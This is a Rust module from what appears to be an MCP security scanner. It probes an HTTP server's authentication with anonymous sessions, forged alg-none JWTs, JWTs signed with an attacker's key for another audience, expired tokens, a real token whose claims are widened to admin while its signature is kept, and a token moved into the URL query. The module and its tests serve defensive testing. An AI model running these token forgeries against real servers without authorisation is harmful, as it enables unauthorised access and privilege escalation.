//! MCP07 and MCP01 on an HTTP target: sessions opened with no token, a forged unsigned JWT
//! (`alg: none`), a JWT for another audience signed with a key the attacker made, an expired
//! one, the real token replayed with widened claims under its own signature, and the real
//! token (`--token`) moved into the URL query. Any of them opening a session
//! and listing tools is the attack succeeding. A target that takes anonymous calls is said so
//! once: every other token attack is moot there.

use std::{
    collections::BTreeMap,
    time::{SystemTime, UNIX_EPOCH},
};

use base64::Engine;
use belay_client::{Target, Transport};
use serde_json::{Value, json};

use crate::{Attempt, Options, Outcome, Risk, session::Session};

pub(crate) async fn run(
    target: &str,
    url: &str,
    headers: &BTreeMap<String, String>,
    token: Option<&str>,
    options: &Options,
) -> Vec<Attempt> {
    let mut bare = headers.clone();
    bare.retain(|k, _| !k.eq_ignore_ascii_case("authorization"));
    let anonymous = accepted(target, url, &bare, options).await;
    if let Ok(tools) = anonymous {
        return vec![Attempt::new(
            Risk::WeakAuth,
            "anonymous access",
            target,
            Outcome::Succeeded,
            format!(
                "the server opened a session without any token and listed {tools} tools (every \
                 token attack is moot)"
            ),
        )];
    }
    let mut attempts = vec![judge(target, Risk::WeakAuth, "anonymous access", anonymous)];
    let claims = claims_of(token, url);
    let now = now();
    let mut unsigned = claims.clone();
    unsigned["exp"] = json!(now + 3600);
    let none = jwt(&json!({"alg": "none", "typ": TYP}), &unsigned, "");
    attempts.push(judge(
        target,
        Risk::WeakAuth,
        "forged unsigned JWT (alg: none)",
        with_bearer(target, url, &bare, &none, options).await,
    ));
    let mut elsewhere = claims.clone();
    elsewhere["aud"] = json!("https://attacker.evil.example/mcp");
    elsewhere["exp"] = json!(now + 3600);
    attempts.push(judge(
        target,
        Risk::TokenMismanagement,
        "JWT for another audience, attacker's key",
        match signed(&elsewhere) {
            Some(token) => with_bearer(target, url, &bare, &token, options).await,
            None => Err("could not sign".into()),
        },
    ));
    let mut expired = claims;
    expired["iat"] = json!(now - 7200);
    expired["exp"] = json!(now - 3600);
    attempts.push(judge(
        target,
        Risk::TokenMismanagement,
        "expired JWT",
        match signed(&expired) {
            Some(token) => with_bearer(target, url, &bare, &token, options).await,
            None => Err("could not sign".into()),
        },
    ));
    attempts.push(match token.and_then(tampered) {
        Some(forged) => judge(
            target,
            Risk::TokenMismanagement,
            "replayed token with widened claims (signature kept)",
            with_bearer(target, url, &bare, &forged, options).await,
        ),
        None => Attempt::new(
            Risk::TokenMismanagement,
            "replayed token with widened claims (signature kept)",
            target,
            Outcome::NotApplicable,
            "needs a real JWT (--token) to tamper with",
        ),
    });
    attempts.push(match token {
        Some(token) => {
            let separator = if url.contains('?') { '&' } else { '?' };
            let in_query = format!("{url}{separator}access_token={token}");
            judge(
                target,
                Risk::TokenMismanagement,
                "token in the URL query",
                accepted(target, &in_query, &bare, options).await,
            )
        }
        None => Attempt::new(
            Risk::TokenMismanagement,
            "token in the URL query",
            target,
            Outcome::NotApplicable,
            "needs a real token (--token) to move into the query",
        ),
    });
    attempts
}

fn judge(target: &str, risk: Risk, attack: &str, result: Result<usize, String>) -> Attempt {
    match result {
        Ok(tools) => Attempt::new(
            risk,
            attack,
            target,
            Outcome::Succeeded,
            format!("the server opened a session with it and listed {tools} tools"),
        ),
        Err(reason) => Attempt::new(
            risk,
            attack,
            target,
            Outcome::Blocked,
            format!("refused: {}", crate::excerpt(&reason)),
        ),
    }
}

async fn with_bearer(
    target: &str,
    url: &str,
    headers: &BTreeMap<String, String>,
    token: &str,
    options: &Options,
) -> Result<usize, String> {
    let mut headers = headers.clone();
    headers.insert("Authorization".into(), format!("Bearer {token}"));
    accepted(target, url, &headers, options).await
}

/// Opens a session with exactly `headers` at `url`: how many tools it lists, or why not.
async fn accepted(
    target: &str,
    url: &str,
    headers: &BTreeMap<String, String>,
    options: &Options,
) -> Result<usize, String> {
    // A plain 401 or 403 says it all, without the sign-in dance a session would start.
    match super::http::reachable(url, headers, options).await {
        Ok(status @ (401 | 403)) => return Err(format!("HTTP {status}")),
        Ok(_) => {}
        Err(reason) => return Err(reason),
    }
    let probe = Target {
        name: target.to_owned(),
        transport: Transport::Http {
            url: url.to_owned(),
            headers: headers.clone(),
        },
    };
    let session = Session::open(&probe, options).await?;
    let tools = session.tools.len();
    session.close().await;
    Ok(tools)
}

/// The claims of the real token when it is a JWT (so forgeries look like it), else
/// plausible ones for `url`.
fn claims_of(token: Option<&str>, url: &str) -> Value {
    token
        .and_then(|t| t.split('.').nth(1))
        .and_then(|part| {
            base64::engine::general_purpose::URL_SAFE_NO_PAD
                .decode(part.trim_end_matches('='))
                .ok()
        })
        .and_then(|bytes| serde_json::from_slice::<Value>(&bytes).ok())
        .filter(Value::is_object)
        .unwrap_or_else(|| {
            json!({
                "iss": url,
                "aud": url,
                "sub": "belay-redteam",
                "scope": "mcp",
                "iat": now(),
            })
        })
}

/// The real JWT replayed with its claims widened (every scope an attacker would want,
/// another subject, a far expiry) under its own header and signature: a server that checks
/// the signature refuses it; one that only decodes the claims lets the attacker in.
fn tampered(token: &str) -> Option<String> {
    let mut parts = token.split('.');
    let (header, _, signature) = (parts.next()?, parts.next()?, parts.next()?);
    if parts.next().is_some() {
        return None;
    }
    let mut claims = claims_of(Some(token), "");
    let object = claims.as_object_mut()?;
    if !object.contains_key("sub") && !object.contains_key("aud") {
        return None;
    }
    let scope = object
        .get("scope")
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_owned();
    object.insert(
        "scope".into(),
        json!(format!("{scope} admin write registry:publish").trim()),
    );
    object.insert("sub".into(), json!("admin"));
    object.insert("exp".into(), json!(now() + 365 * 86_400));
    let body = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(claims.to_string());
    Some(format!("{header}.{body}.{signature}"))
}

fn jwt(header: &Value, claims: &Value, signature: &str) -> String {
    let encode = |v: &Value| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v.to_string());
    format!("{}.{}.{signature}", encode(header), encode(claims))
}

/// The `typ` forgeries carry: an access token's (RFC 9068), so a server that checks it still
/// has to check the signature, the audience and the expiry to refuse them.
const TYP: &str = "at+jwt";

/// `claims` signed HS256 with a fresh random key only the attacker knows.
fn signed(claims: &Value) -> Option<String> {
    let key: [u8; 32] = rand::random();
    let mut header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256);
    header.typ = Some(TYP.into());
    jsonwebtoken::encode(
        &header,
        claims,
        &jsonwebtoken::EncodingKey::from_secret(&key),
    )
    .ok()
}

fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_secs())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forgeries_copy_the_real_tokens_claims() {
        let real = jwt(
            &json!({"alg": "RS256"}),
            &json!({"iss": "https://as.example", "aud": "https://rs.example/mcp", "sub": "u1"}),
            "sig",
        );
        let claims = claims_of(Some(&real), "http://x/mcp");
        assert_eq!(claims["sub"], "u1");
        assert_eq!(claims["aud"], "https://rs.example/mcp");
        let plain = claims_of(Some("opaque-token"), "http://x/mcp");
        assert_eq!(plain["aud"], "http://x/mcp");
        let none = jwt(&json!({"alg": "none"}), &claims, "");
        assert!(none.ends_with('.') && none.matches('.').count() == 2);
        assert!(signed(&claims).is_some_and(|t| t.matches('.').count() == 2));
    }

    #[test]
    fn a_tampered_token_keeps_header_and_signature_and_widens_the_claims() {
        let real = jwt(
            &json!({"alg": "RS256", "kid": "k1"}),
            &json!({"aud": "https://rs.example/mcp", "sub": "u1", "scope": "mcp:read"}),
            "c2lnbmF0dXJl",
        );
        let forged = tampered(&real).unwrap_or_default();
        let (head, tail) = (real.split('.').next(), real.rsplit('.').next());
        assert_eq!(forged.split('.').next(), head);
        assert_eq!(forged.rsplit('.').next(), tail);
        assert_ne!(forged, real);
        let claims = claims_of(Some(&forged), "");
        assert_eq!(claims["sub"], "admin");
        assert_eq!(claims["aud"], "https://rs.example/mcp");
        assert_eq!(claims["scope"], "mcp:read admin write registry:publish");
        // Opaque tokens and four-part strings have nothing to tamper with.
        assert_eq!(tampered("opaque-token"), None);
        assert_eq!(tampered("a.b.c.d"), None);
    }
}
